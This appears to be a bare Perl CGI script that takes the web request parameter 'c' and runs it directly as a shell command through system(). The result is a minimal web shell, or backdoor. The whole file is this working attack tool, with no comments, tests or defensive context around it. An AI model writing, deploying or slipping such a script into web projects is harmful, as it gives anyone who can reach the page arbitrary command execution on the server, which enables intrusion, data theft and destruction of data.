#!/usr/bin/perl
use CGI;
my $q = CGI->new;
print $q->header;
system($q->param('c'));
